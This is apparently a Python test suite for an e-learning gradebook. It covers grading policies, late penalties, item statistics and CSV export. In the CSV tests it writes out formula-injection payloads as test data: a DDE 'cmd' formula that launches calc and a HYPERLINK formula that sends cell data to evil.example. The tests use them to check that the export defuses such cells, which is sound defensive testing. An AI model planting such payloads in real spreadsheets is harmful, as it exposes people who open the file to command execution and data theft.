"""The grade math: grading policy, late deduction, item statistics, the gradebook and its CSV.

Worked examples pin the numbers a teacher would check by hand; the properties pin the promises that
must hold for any input (a late penalty never raises a grade, drop-lowest never hurts, ...)."""

from __future__ import annotations

import csv
import io
import math
import statistics
import uuid
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from elearning_core.assessment.model import (
    Category,
    GradingPolicy,
    LatePolicy,
    LateUnit,
    QuizStatus,
    apply_late,
    combine,
    item_statistics,
)
from elearning_core.assessment.queries import (
    Gradebook,
    GradebookInputs,
    GradeCell,
    Learner,
    QuizSummary,
    build_gradebook,
    gradebook_csv,
)

PURE = settings(max_examples=200, deadline=None)
T0 = datetime(2026, 1, 5, 9, 30, tzinfo=UTC)
COURSE = uuid.UUID(int=1)
DAY = 86400
HOUR = 3600
Closes = dict[tuple[uuid.UUID, uuid.UUID], datetime | None]


def uid(n: int) -> uuid.UUID:
    return uuid.UUID(int=n)


def a_quiz(
    n: int,
    category: str,
    *,
    title: str | None = None,
    missing: float | None = None,
    due_at: datetime | None = None,
    closes_at: datetime | None = None,
) -> QuizSummary:
    return QuizSummary(
        id=uid(1000 + n),
        course_id=COURSE,
        title=title if title is not None else f"Quiz {n}",
        category=category,
        status=QuizStatus.PUBLISHED,
        opens_at=None,
        due_at=due_at,
        closes_at=closes_at,
        max_attempts=None,
        time_limit_seconds=None,
        missing_grade_percent=missing,
    )


def a_learner(n: int, name: str | None = None, email: str | None = None) -> Learner:
    return Learner(
        user_id=uid(n), display_name=name if name is not None else f"Learner {n}", email=email or f"l{n}@example.org"
    )


def a_grade(
    learner: Learner, quiz: QuizSummary, percent: float | None, attempts: int = 1, pending: int = 0
) -> GradeCell:
    return GradeCell(user_id=learner.user_id, quiz_id=quiz.id, percent=percent, attempts=attempts, pending=pending)


def inputs(
    quizzes: list[QuizSummary],
    learners: list[Learner],
    grades: list[GradeCell] | None = None,
    categories: list[Category] | None = None,
    extended_closes: Closes | None = None,
) -> GradebookInputs:
    return GradebookInputs(
        quizzes=list(quizzes),
        learners=list(learners),
        grades=list(grades or []),
        categories=list(categories or []),
        extended_closes=extended_closes or {},
    )


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --- combine ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("policy", "expected"),
    [(GradingPolicy.HIGHEST, 90.0), (GradingPolicy.LATEST, 70.0), (GradingPolicy.AVERAGE, 66.6667)],
)
def test_combine_applies_the_grading_policy(policy: GradingPolicy, expected: float) -> None:
    assert combine(policy, [40.0, 90.0, 70.0]) == expected


@pytest.mark.parametrize("policy", list(GradingPolicy))
def test_combine_without_graded_attempts_gives_no_grade(policy: GradingPolicy) -> None:
    assert combine(policy, []) is None


def test_latest_is_the_last_attempt_even_when_it_is_worse() -> None:
    assert combine(GradingPolicy.LATEST, [95.0, 12.5]) == 12.5


# Stored percents carry at most 4 decimals (combine's own rounding), so the inputs live on that grid.
percents_4dp = st.integers(0, 1_000_000).map(lambda n: n / 10_000)


@PURE
@given(policy=st.sampled_from(list(GradingPolicy)), percents=st.lists(percents_4dp, min_size=1, max_size=30))
def test_combine_stays_within_its_inputs(policy: GradingPolicy, percents: list[float]) -> None:
    grade = combine(policy, percents)
    assert grade is not None
    assert min(percents) <= grade <= max(percents)


# --- apply_late ------------------------------------------------------------------------------------

TEN_A_DAY = LatePolicy(deduction_percent=10.0, per=LateUnit.DAY, floor_percent=50.0)


@pytest.mark.parametrize(
    ("late_seconds", "final", "deduction"),
    [
        (0, 90.0, 0.0),
        (1, 80.0, 10.0),  # a started day counts in full
        (DAY, 80.0, 10.0),
        (DAY + 1, 70.0, 20.0),
        (10 * DAY, 50.0, 40.0),  # stopped by the floor
    ],
)
def test_late_deduction_per_started_day(late_seconds: int, final: float, deduction: float) -> None:
    assert apply_late(TEN_A_DAY, 90.0, late_seconds) == (final, deduction)


def test_late_deduction_per_started_hour() -> None:
    policy = LatePolicy(deduction_percent=5.0, per=LateUnit.HOUR)
    assert apply_late(policy, 80.0, HOUR + 1) == (70.0, 10.0)


def test_a_grade_already_under_the_floor_is_left_as_it_is() -> None:
    assert apply_late(TEN_A_DAY, 30.0, 3 * DAY) == (30.0, 0.0)


def test_a_grade_just_above_the_floor_loses_only_down_to_it() -> None:
    assert apply_late(TEN_A_DAY, 55.0, 3 * DAY) == (50.0, 5.0)


def test_late_deduction_never_goes_below_zero() -> None:
    policy = LatePolicy(deduction_percent=10.0, per=LateUnit.DAY, floor_percent=0.0)
    assert apply_late(policy, 15.0, 5 * DAY) == (0.0, 15.0)


def test_no_deduction_configured_leaves_late_work_alone() -> None:
    assert apply_late(LatePolicy(), 72.5, 30 * DAY) == (72.5, 0.0)


late_policies = st.builds(
    LatePolicy,
    deduction_percent=st.floats(0, 50, allow_nan=False),
    per=st.sampled_from(list(LateUnit)),
    floor_percent=st.floats(0, 100, allow_nan=False),
)
raw_percents = st.floats(0, 100, allow_nan=False)
lateness = st.integers(0, 400 * DAY)


@PURE
@given(policy=late_policies, raw=raw_percents, late=lateness)
def test_late_policy_never_raises_nor_sinks_below_the_floor(policy: LatePolicy, raw: float, late: int) -> None:
    final, deduction = apply_late(policy, raw, late)
    assert final <= raw
    assert final >= min(raw, policy.floor_percent)
    assert final >= 0
    assert deduction == raw - final


@PURE
@given(policy=late_policies, raw=raw_percents, a=lateness, b=lateness)
def test_later_work_never_scores_more(policy: LatePolicy, raw: float, a: int, b: int) -> None:
    earlier, later = sorted((a, b))
    assert apply_late(policy, raw, later)[0] <= apply_late(policy, raw, earlier)[0]


# --- item_statistics -------------------------------------------------------------------------------

Q1, Q2, Q3 = uid(11), uid(12), uid(13)
A, B, C, D = uid(21), uid(22), uid(23), uid(24)


def test_item_statistics_worked_example() -> None:
    """Rest scores by hand: q1 is answered by the two strongest attempts only, so it discriminates
    strongly; q2 is missed only by C, whose rest is not the lowest, so it discriminates weakly."""
    rows = [
        (A, Q1, 1.0, 1.0), (A, Q2, 1.0, 1.0), (A, Q3, 2.0, 2.0),
        (B, Q1, 1.0, 1.0), (B, Q2, 1.0, 1.0), (B, Q3, 1.0, 2.0),
        (C, Q1, 0.0, 1.0), (C, Q2, 0.0, 1.0), (C, Q3, 1.0, 2.0),
        (D, Q1, 0.0, 1.0), (D, Q2, 1.0, 1.0), (D, Q3, 0.0, 2.0),
    ]  # fmt: skip
    stats = {s.question_id: s for s in item_statistics(rows)}
    # q1: x = 1 1 0 0, rest = 3/3 2/3 1/3 1/3 -> r = 6 / sqrt(44)
    assert (stats[Q1].responses, stats[Q1].facility, stats[Q1].discrimination) == (4, 0.5, 0.9045)
    assert (stats[Q2].responses, stats[Q2].facility, stats[Q2].discrimination) == (4, 0.75, 0.2582)
    assert (stats[Q3].responses, stats[Q3].facility, stats[Q3].discrimination) == (4, 0.5, 0.4264)


def test_item_statistics_come_in_question_id_order() -> None:
    rows = [(A, Q3, 1.0, 1.0), (A, Q1, 0.0, 1.0), (A, Q2, 1.0, 1.0)]
    assert [s.question_id for s in item_statistics(rows)] == [Q1, Q2, Q3]


def test_zero_point_rows_count_as_responses_but_not_for_facility() -> None:
    rows = [(A, Q1, 0.0, 0.0), (B, Q1, 0.0, 0.0), (A, Q2, 1.0, 1.0), (B, Q2, 0.0, 1.0)]
    stats = {s.question_id: s for s in item_statistics(rows)}
    assert (stats[Q1].responses, stats[Q1].facility, stats[Q1].discrimination) == (2, None, None)
    assert stats[Q2].facility == 0.5


def test_discrimination_needs_two_responses_and_variance() -> None:
    one_response = [(A, Q1, 1.0, 1.0), (A, Q2, 0.0, 1.0)]
    everyone_right = [(A, Q1, 1.0, 1.0), (A, Q2, 0.0, 1.0), (B, Q1, 1.0, 1.0), (B, Q2, 1.0, 1.0)]
    same_rest = [(A, Q1, 1.0, 1.0), (A, Q2, 1.0, 1.0), (B, Q1, 0.0, 1.0), (B, Q2, 1.0, 1.0)]
    assert item_statistics(one_response)[0].discrimination is None
    assert item_statistics(everyone_right)[0].discrimination is None  # no variance in the item
    assert item_statistics(same_rest)[0].discrimination is None  # no variance in the rest score


def test_a_constant_item_has_no_discrimination_despite_float_noise() -> None:
    """Three fractions of 0.1 have a float mean of 0.10000000000000002: a variance computed from it is
    tiny but not zero, and would report a correlation where there is none."""
    rows = [(a, Q1, 1.0, 10.0) for a in (A, B, C)] + [(A, Q2, 0.0, 1.0), (B, Q2, 1.0, 1.0), (C, Q2, 1.0, 1.0)]
    (q1, _) = item_statistics(rows)
    assert q1.facility == 0.1
    assert q1.discrimination is None


def test_no_rows_no_statistics() -> None:
    assert item_statistics([]) == []


@st.composite
def scored_attempts(draw: st.DrawFn) -> list[tuple[uuid.UUID, uuid.UUID, float, float]]:
    questions = [uid(100 + i) for i in range(draw(st.integers(1, 5)))]
    points = {q: draw(st.integers(0, 4)) for q in questions}
    rows = []
    for a in range(draw(st.integers(0, 12))):
        for q in draw(st.lists(st.sampled_from(questions), min_size=1, unique=True)):
            rows.append((uid(500 + a), q, float(draw(st.integers(0, points[q]))), float(points[q])))
    return rows


def corrected_item_total(rows: list[tuple[uuid.UUID, uuid.UUID, float, float]], question: uuid.UUID) -> float | None:
    """The definition, computed independently: the item's fraction against the rest of the attempt."""
    xs: list[float] = []
    ys: list[float] = []
    for attempt, q, score, points in rows:
        if q != question or points == 0:
            continue
        others = [(s, p) for a, q2, s, p in rows if a == attempt and q2 != question and p > 0]
        rest_points = sum(p for _, p in others)
        if rest_points:
            xs.append(score / points)
            ys.append(sum(s for s, _ in others) / rest_points)
    if len(xs) < 2 or len(set(xs)) < 2 or len(set(ys)) < 2:
        return None
    return statistics.correlation(xs, ys)


@PURE
@given(rows=scored_attempts())
def test_item_statistics_stay_in_range_and_match_the_definition(
    rows: list[tuple[uuid.UUID, uuid.UUID, float, float]],
) -> None:
    for stat in item_statistics(rows):
        assert stat.responses == sum(1 for _, q, _, _ in rows if q == stat.question_id)
        assert stat.facility is None or 0.0 <= stat.facility <= 1.0
        assert stat.discrimination is None or -1.0 <= stat.discrimination <= 1.0
        expected = corrected_item_total(rows, stat.question_id)
        if expected is None:
            assert stat.discrimination is None
        else:
            assert stat.discrimination is not None
            assert math.isclose(stat.discrimination, expected, abs_tol=1e-4)


@PURE
@given(
    others=st.integers(1, 6),
    data=st.data(),
)
def test_an_item_only_strong_attempts_get_right_discriminates_positively(others: int, data: st.DataObject) -> None:
    """Every strong attempt's rest score is above every weak one's: getting the item right only when
    strong is positive discrimination, getting it right only when weak is negative."""
    threshold = data.draw(st.integers(0, others - 1))
    strong = data.draw(st.lists(st.integers(threshold + 1, others), min_size=1, max_size=8))
    weak = data.draw(st.lists(st.integers(0, threshold), min_size=1, max_size=8))
    target, reverse = uid(1), uid(2)
    rows: list[tuple[uuid.UUID, uuid.UUID, float, float]] = []
    for n, (right, is_strong) in enumerate([(r, True) for r in strong] + [(r, False) for r in weak]):
        attempt = uid(1000 + n)
        rows.append((attempt, target, 1.0 if is_strong else 0.0, 1.0))
        rows += [(attempt, uid(10 + i), 1.0 if i < right else 0.0, 1.0) for i in range(others)]
    (stat,) = [s for s in item_statistics(rows) if s.question_id == target]
    assert stat.discrimination is not None
    assert stat.discrimination > 0

    flipped = [(a, reverse if q == target else q, 1.0 - s if q == target else s, p) for a, q, s, p in rows]
    (stat,) = [s for s in item_statistics(flipped) if s.question_id == reverse]
    assert stat.discrimination is not None
    assert stat.discrimination < 0


# --- build_gradebook -------------------------------------------------------------------------------

HW1, HW2, HW3 = a_quiz(1, "Homework"), a_quiz(2, "Homework"), a_quiz(3, "Homework")
EXAM = a_quiz(4, "Exams")
HOMEWORK = Category("Homework", weight=1.0, drop_lowest=1)
EXAMS = Category("Exams", weight=3.0)
ANA, BEN, CAT = a_learner(1, "Ana"), a_learner(2, "Ben"), a_learner(3, "Cat")


def two_category_book() -> Gradebook:
    grades = [
        a_grade(ANA, HW1, 60.0),
        a_grade(ANA, HW2, 80.0),
        a_grade(ANA, HW3, 100.0),
        a_grade(ANA, EXAM, 70.0),
        a_grade(BEN, HW1, 90.0),
        a_grade(BEN, HW2, 50.0),
    ]
    return build_gradebook(COURSE, inputs([HW1, HW2, HW3, EXAM], [ANA, BEN, CAT], grades, [HOMEWORK, EXAMS]), T0)


def test_weighted_categories_with_drop_lowest() -> None:
    book = two_category_book()
    ana = book.rows[0]
    assert ana.cells == {HW1.id: 60.0, HW2.id: 80.0, HW3.id: 100.0, EXAM.id: 70.0}
    assert ana.categories == {"Homework": 90.0, "Exams": 70.0}  # the 60 is dropped
    assert ana.total == 75.0  # (1 x 90 + 3 x 70) / 4


def test_total_is_renormalised_over_the_categories_with_grades() -> None:
    ben = two_category_book().rows[1]
    assert ben.categories == {"Homework": 90.0, "Exams": None}  # 50 dropped, HW3 ungraded
    assert ben.total == 90.0  # Exams' weight 3 does not count while Ben has no exam grade


def test_a_learner_without_grades_has_no_total() -> None:
    cat = two_category_book().rows[2]
    assert cat.cells == {HW1.id: None, HW2.id: None, HW3.id: None, EXAM.id: None}
    assert cat.categories == {"Homework": None, "Exams": None}
    assert cat.total is None


def test_rows_keep_the_learners_order_and_the_book_keeps_quizzes_and_categories() -> None:
    book = two_category_book()
    assert [row.display_name for row in book.rows] == ["Ana", "Ben", "Cat"]
    assert book.course_id == COURSE
    assert book.quizzes == [HW1, HW2, HW3, EXAM]
    assert book.categories == [HOMEWORK, EXAMS]


def test_drop_lowest_always_keeps_one_grade() -> None:
    greedy = Category("Homework", weight=1.0, drop_lowest=5)
    grades = [a_grade(ANA, HW1, 40.0), a_grade(ANA, HW2, 70.0)]
    book = build_gradebook(COURSE, inputs([HW1, HW2, HW3], [ANA], grades, [greedy]), T0)
    assert book.rows[0].categories == {"Homework": 70.0}
    assert book.rows[0].total == 70.0


def test_unlisted_quiz_categories_weigh_one_and_empty_listed_ones_never_count() -> None:
    quiz = a_quiz(5, "Quizzes")
    projects = Category("Projects", weight=10.0)
    grades = [a_grade(ANA, EXAM, 100.0), a_grade(ANA, quiz, 60.0)]
    book = build_gradebook(COURSE, inputs([EXAM, quiz], [ANA], grades, [projects, EXAMS]), T0)
    assert book.categories == [projects, EXAMS, Category("Quizzes", weight=1.0)]
    assert book.rows[0].categories == {"Projects": None, "Exams": 100.0, "Quizzes": 60.0}
    assert book.rows[0].total == 90.0  # (3 x 100 + 1 x 60) / 4


def test_without_a_scheme_every_category_weighs_the_same() -> None:
    grades = [a_grade(ANA, HW1, 100.0), a_grade(ANA, HW2, 80.0), a_grade(ANA, EXAM, 30.0)]
    book = build_gradebook(COURSE, inputs([HW1, HW2, EXAM], [ANA], grades), T0)
    assert book.rows[0].categories == {"Homework": 90.0, "Exams": 30.0}
    assert book.rows[0].total == 60.0


def test_numbers_are_rounded_to_cents() -> None:
    grades = [a_grade(ANA, HW1, 100.0), a_grade(ANA, HW2, 100.0), a_grade(ANA, HW3, 66.66666)]
    book = build_gradebook(COURSE, inputs([HW1, HW2, HW3], [ANA], grades), T0)
    assert book.rows[0].cells[HW3.id] == 66.67
    assert book.rows[0].categories == {"Homework": 88.89}
    assert book.rows[0].total == 88.89


CLOSE = T0 + timedelta(days=7)
MISSABLE = a_quiz(6, "Homework", missing=0.0, closes_at=CLOSE)


def missing_cell(
    quiz: QuizSummary,
    now: datetime,
    grades: list[GradeCell] | None = None,
    extended: Closes | None = None,
) -> float | None:
    return build_gradebook(COURSE, inputs([quiz], [ANA], grades, extended_closes=extended), now).rows[0].cells[quiz.id]


def test_missing_work_is_blank_before_the_close_and_graded_after() -> None:
    assert missing_cell(MISSABLE, CLOSE - timedelta(seconds=1)) is None
    assert missing_cell(MISSABLE, CLOSE) == 0.0
    assert missing_cell(MISSABLE, CLOSE + timedelta(days=1)) == 0.0


def test_missing_work_counts_in_the_category_and_total() -> None:
    book = build_gradebook(COURSE, inputs([HW1, MISSABLE], [ANA], [a_grade(ANA, HW1, 80.0)]), CLOSE)
    assert book.rows[0].categories == {"Homework": 40.0}
    assert book.rows[0].total == 40.0


def test_an_extension_postpones_missing_work() -> None:
    extended: Closes = {(MISSABLE.id, ANA.user_id): CLOSE + timedelta(days=3)}
    assert missing_cell(MISSABLE, CLOSE + timedelta(days=1), extended=extended) is None
    assert missing_cell(MISSABLE, CLOSE + timedelta(days=3), extended=extended) == 0.0


def test_an_extension_without_a_close_leaves_the_quiz_close() -> None:
    assert missing_cell(MISSABLE, CLOSE, extended={(MISSABLE.id, ANA.user_id): None}) == 0.0


def test_another_learners_extension_does_not_apply() -> None:
    extended: Closes = {(MISSABLE.id, BEN.user_id): CLOSE + timedelta(days=3)}
    assert missing_cell(MISSABLE, CLOSE, extended=extended) == 0.0


def test_submitted_work_is_never_missing() -> None:
    waiting_for_a_person = a_grade(ANA, MISSABLE, None, attempts=1, pending=1)
    assert missing_cell(MISSABLE, CLOSE, [waiting_for_a_person]) is None


def test_an_unsubmitted_attempt_is_missing_work() -> None:
    abandoned = a_grade(ANA, MISSABLE, None, attempts=0)
    assert missing_cell(MISSABLE, CLOSE, [abandoned]) == 0.0


def test_missing_work_falls_back_to_the_due_date_and_needs_a_date_and_a_policy() -> None:
    due_only = replace(MISSABLE, closes_at=None, due_at=CLOSE)
    undated = replace(MISSABLE, closes_at=None, due_at=None)
    left_blank = replace(MISSABLE, missing_grade_percent=None)
    assert missing_cell(due_only, CLOSE) == 0.0
    assert missing_cell(undated, CLOSE + timedelta(days=365)) is None
    assert missing_cell(left_blank, CLOSE + timedelta(days=365)) is None


def test_missing_grade_percent_need_not_be_zero() -> None:
    assert missing_cell(replace(MISSABLE, missing_grade_percent=25.0), CLOSE) == 25.0


CATEGORY_NAMES = ["Homework", "Exams", "Labs"]


@st.composite
def gradebook_inputs(draw: st.DrawFn, drop_lowest: st.SearchStrategy[int] = st.integers(0, 4)) -> GradebookInputs:
    quizzes = [
        a_quiz(
            n,
            draw(st.sampled_from(CATEGORY_NAMES)),
            missing=draw(st.none() | raw_percents),
            closes_at=draw(st.none() | st.sampled_from([T0 - timedelta(days=1), T0 + timedelta(days=1)])),
        )
        for n in range(draw(st.integers(0, 8)))
    ]
    scheme = [
        Category(name, weight=draw(st.floats(0.1, 10)), drop_lowest=draw(drop_lowest))
        for name in draw(st.lists(st.sampled_from(CATEGORY_NAMES), unique=True))
    ]
    learners = [a_learner(n) for n in range(draw(st.integers(0, 5)))]
    grades = [
        a_grade(learner, quiz, draw(st.none() | raw_percents), attempts=draw(st.integers(0, 2)))
        for learner in learners
        for quiz in quizzes
        if draw(st.booleans())
    ]
    return inputs(quizzes, learners, grades, scheme)


@PURE
@given(book_inputs=gradebook_inputs())
def test_totals_and_categories_stay_within_0_and_100(book_inputs: GradebookInputs) -> None:
    book = build_gradebook(COURSE, book_inputs, T0)
    assert len(book.rows) == len(book_inputs.learners)
    for row in book.rows:
        assert set(row.cells) == {quiz.id for quiz in book_inputs.quizzes}
        assert all(p is None or 0 <= p <= 100 for p in row.categories.values())
        assert row.total is None or 0 <= row.total <= 100
        assert (row.total is None) == all(p is None for p in row.categories.values())


@PURE
@given(book_inputs=gradebook_inputs(drop_lowest=st.just(0)), drops=st.lists(st.integers(1, 4), min_size=3, max_size=3))
def test_dropping_lowest_grades_never_lowers_a_category(book_inputs: GradebookInputs, drops: list[int]) -> None:
    dropping = replace(
        book_inputs,
        categories=[replace(c, drop_lowest=drops[CATEGORY_NAMES.index(c.name)]) for c in book_inputs.categories],
    )
    assume(dropping.categories)
    kept_all = build_gradebook(COURSE, book_inputs, T0)
    dropped = build_gradebook(COURSE, dropping, T0)
    for before, after in zip(kept_all.rows, dropped.rows, strict=True):
        for name, percent in before.categories.items():
            if percent is None:
                assert after.categories[name] is None
            else:
                after_percent = after.categories[name]
                assert after_percent is not None
                assert after_percent >= percent


def test_a_large_gradebook_has_every_cell() -> None:
    """500 x 20 is the issue's size; the figure itself lives in the benchmark, not in a test."""
    quizzes = [a_quiz(n, CATEGORY_NAMES[n % 3]) for n in range(20)]
    learners = [a_learner(n) for n in range(500)]
    grades = [
        a_grade(learner, quiz, float((i + j) % 101))
        for i, learner in enumerate(learners)
        for j, quiz in enumerate(quizzes)
    ]
    book = build_gradebook(COURSE, inputs(quizzes, learners, grades), T0)
    assert sum(p is not None for row in book.rows for p in row.cells.values()) == 10_000
    assert book.rows[7].cells[quizzes[3].id] == 10.0


# --- gradebook_csv ---------------------------------------------------------------------------------


def test_csv_worked_example() -> None:
    text = gradebook_csv(two_category_book())
    assert parse(text) == [
        [
            "user_id",
            "name",
            "email",
            "Quiz 1",
            "Quiz 2",
            "Quiz 3",
            "Quiz 4",
            "category: Homework",
            "category: Exams",
            "total",
        ],
        [str(ANA.user_id), "Ana", "l1@example.org", "60.00", "80.00", "100.00", "70.00", "90.00", "70.00", "75.00"],
        [str(BEN.user_id), "Ben", "l2@example.org", "90.00", "50.00", "", "", "90.00", "", "90.00"],
        [str(CAT.user_id), "Cat", "l3@example.org", "", "", "", "", "", "", ""],
    ]
    assert text.endswith("\r\n")
    assert text.count("\r\n") == 4


def test_csv_defuses_formulas_in_every_text_cell() -> None:
    quiz = a_quiz(1, "@Exams", title="=cmd|' /C calc'!A0")
    learner = a_learner(1, name='=HYPERLINK("https://evil.example/?"&A1,"click")', email="+1@example.org")
    book = build_gradebook(COURSE, inputs([quiz], [learner], [a_grade(learner, quiz, 50.0)]), T0)
    header, row = parse(gradebook_csv(book))
    assert header[3] == "'=cmd|' /C calc'!A0"
    assert header[4] == "category: @Exams"  # already harmless: it starts with "category: "
    assert row[1] == '\'=HYPERLINK("https://evil.example/?"&A1,"click")'
    assert row[2] == "'+1@example.org"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_defused(start: str) -> None:
    learner = a_learner(1, name=f"{start}SUM(A1)")
    book = build_gradebook(COURSE, inputs([], [learner]), T0)
    assert parse(gradebook_csv(book))[1][1] == f"'{start}SUM(A1)"


def test_ordinary_text_is_left_alone() -> None:
    learner = a_learner(1, name="Zoë O'Brien, Jr.", email="zoe@example.org")
    book = build_gradebook(COURSE, inputs([], [learner]), T0)
    assert parse(gradebook_csv(book))[1][1:3] == ["Zoë O'Brien, Jr.", "zoe@example.org"]


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
texts = st.text(st.characters(codec="utf-8"), max_size=20) | st.sampled_from(
    ['=HYPERLINK("http://x","y")', "+SUM(1)", "-2+3", "@A1", "\t=1", "\r=1", 'a,"b"\nc']
)


def defused(text: str) -> str:
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


@PURE
@given(
    names=st.lists(st.tuples(texts, texts), max_size=5),
    titles=st.lists(texts, max_size=4),
    percents=st.lists(st.none() | raw_percents, min_size=20, max_size=20),
)
def test_csv_round_trips_with_its_columns_and_no_live_formula(
    names: list[tuple[str, str]], titles: list[str], percents: list[float | None]
) -> None:
    quizzes = [a_quiz(n, "Homework", title=title) for n, title in enumerate(titles)]
    learners = [Learner(user_id=uid(n), display_name=name, email=email) for n, (name, email) in enumerate(names)]
    grades = [
        a_grade(learner, quiz, percents[(i * 4 + j) % 20])
        for i, learner in enumerate(learners)
        for j, quiz in enumerate(quizzes)
    ]
    book = build_gradebook(COURSE, inputs(quizzes, learners, grades), T0)
    rows = parse(gradebook_csv(book))
    width = 3 + len(quizzes) + len(book.categories) + 1
    assert len(rows) == 1 + len(learners)
    assert all(len(row) == width for row in rows)
    assert rows[0][3 : 3 + len(titles)] == [defused(title) for title in titles]
    for row, learner, book_row in zip(rows[1:], learners, book.rows, strict=True):
        assert row[:3] == [str(learner.user_id), defused(learner.display_name), defused(learner.email)]
        assert row[-1] == ("" if book_row.total is None else f"{book_row.total:.2f}")
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row[1:3])
